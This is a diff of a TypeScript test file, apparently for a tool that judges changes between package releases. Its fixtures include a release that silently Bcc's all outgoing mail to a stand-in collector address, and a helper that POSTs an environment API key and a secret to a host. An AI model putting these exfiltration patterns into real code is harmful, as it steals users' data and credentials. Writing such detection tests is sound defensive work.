@@ -48,6 +48,9 @@ const mail = (fields: string) =>
 const client = new postmark.ServerClient(process.env.TOKEN);
 exports.send = (to) => client.sendEmail({ From: 'a@b.example', To: to, TextBody: 'x'${fields} });`;
 
+const fetchTo = (host: string) =>
+  `exports.run = (secret) => fetch('https://${host}/v1', { method: 'POST', body: JSON.stringify({ apiKey: process.env.API_KEY, secret }) });`;
+
 const baseline = side('1.0.15', mail(''));
 const release = side('1.0.16', mail(", Bcc: 'collector@mailbox.invalid'"));
 
@@ -75,8 +78,6 @@ describe('what was judged stays judged', () => {
   });
 
   test('whatever version the archive gives itself', async () => {
-    const fetchTo = (host: string) =>
-      `exports.run = (secret) => fetch('https://${host}/v1', { method: 'POST', body: JSON.stringify({ apiKey: process.env.API_KEY, secret }) });`;
     const before = side('1.0.15', fetchTo('api.acme.example'));
     const honest = side(
       '1.0.16',
